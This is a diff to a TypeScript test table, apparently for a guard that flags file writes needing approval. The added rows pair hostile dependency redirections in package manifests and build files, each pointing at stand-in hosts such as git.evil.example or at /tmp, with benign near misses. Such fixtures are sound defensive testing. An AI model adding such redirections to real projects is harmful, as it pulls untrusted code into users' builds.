@@ -7,6 +7,110 @@ import { ready, run } from './harness';
 const ROOT = '/home/dev/project';
 
 const ROWS: { note: string; file: string; content: string; asked: boolean }[] = [
+  {
+    note: 'package.json dependency from a tarball URL',
+    file: 'package.json',
+    content: '"dependencies": {\n    "utils": "https://x.evil.example/utils-1.0.0.tgz",',
+    asked: true,
+  },
+  {
+    note: 'near miss: package.json repository and homepage URLs, registry dependencies',
+    file: 'package.json',
+    content:
+      '{\n  "homepage": "https://acme.example/app",\n  "repository": { "type": "git", "url": "git+https://git.acme.example/app.git" },\n  "dependencies": { "react": "^18.3.1" }\n}\n',
+    asked: false,
+  },
+  {
+    note: 'Cargo git dependency',
+    file: 'Cargo.toml',
+    content: '[dependencies]\nfast-serde = { git = "https://git.evil.example/rust/fast-serde" }\n',
+    asked: true,
+  },
+  {
+    note: 'Cargo patch of a registry crate',
+    file: 'Cargo.toml',
+    content: '[patch.crates-io]\nserde = { path = "/tmp/serde" }\n',
+    asked: true,
+  },
+  {
+    note: 'near miss: Cargo registry dependencies',
+    file: 'Cargo.toml',
+    content: '[dependencies]\nserde = { version = "1", features = ["derive"] }\n',
+    asked: false,
+  },
+  {
+    note: 'go.mod replace to another host',
+    file: 'go.mod',
+    content: 'replace github.com/lib/pq => git.evil.example/x/pq v1.10.9\n',
+    asked: true,
+  },
+  {
+    note: 'near miss: go.mod replace to a local folder',
+    file: 'go.mod',
+    content: 'replace example.com/acme/shared => ../shared\n',
+    asked: false,
+  },
+  {
+    note: 'Gemfile git source',
+    file: 'Gemfile',
+    content: "gem 'rails'\ngem 'rails-perf', git: 'https://git.evil.example/x/rails-perf'\n",
+    asked: true,
+  },
+  { note: 'near miss: Gemfile gems by name', file: 'Gemfile', content: "gem 'rails', '~> 7.1'\n", asked: false },
+  {
+    note: 'Gradle script applied from a URL',
+    file: 'build.gradle',
+    content: "apply from: 'https://x.evil.example/init.gradle'\nplugins {\n",
+    asked: true,
+  },
+  {
+    note: 'near miss: Gradle plugins and the default repositories',
+    file: 'build.gradle.kts',
+    content: 'plugins { java }\nrepositories { mavenCentral() }\n',
+    asked: false,
+  },
+  {
+    note: 'Maven repository',
+    file: 'pom.xml',
+    content: '<repositories>\n  <repository><id>f</id><url>https://maven.evil.example/releases</url></repository>',
+    asked: true,
+  },
+  {
+    note: 'Composer vcs repository',
+    file: 'composer.json',
+    content: '"repositories": [\n    {"type": "vcs", "url": "https://git.evil.example/php/helpers"},',
+    asked: true,
+  },
+  {
+    note: 'near miss: composer.json of a project',
+    file: 'composer.json',
+    content: '{ "type": "project", "require": { "php": "^8.2" } }\n',
+    asked: false,
+  },
+  {
+    note: 'flake input from a git URL',
+    file: 'flake.nix',
+    content: 'inputs = {\n    tools.url = "git+https://git.evil.example/nix/tools";',
+    asked: true,
+  },
+  {
+    note: 'Terraform module from a git URL',
+    file: 'infra/main.tf',
+    content: 'module "vpc" {\n  source = "git::https://git.evil.example/tf/vpc.git"\n}\n',
+    asked: true,
+  },
+  {
+    note: 'near miss: Terraform module from the project',
+    file: 'infra/main.tf',
+    content: 'module "vpc" {\n  source = "./modules/vpc"\n}\n',
+    asked: false,
+  },
+  {
+    note: 'NuGet feed',
+    file: 'nuget.config',
+    content: '<packageSources>\n    <add key="fast" value="https://nuget.evil.example/v3/index.json" />',
+    asked: true,
+  },
   { note: '.npmrc registry', file: '.npmrc', content: 'registry=https://npm.evil.example/\n', asked: true },
   {
     note: '.npmrc scoped registry',
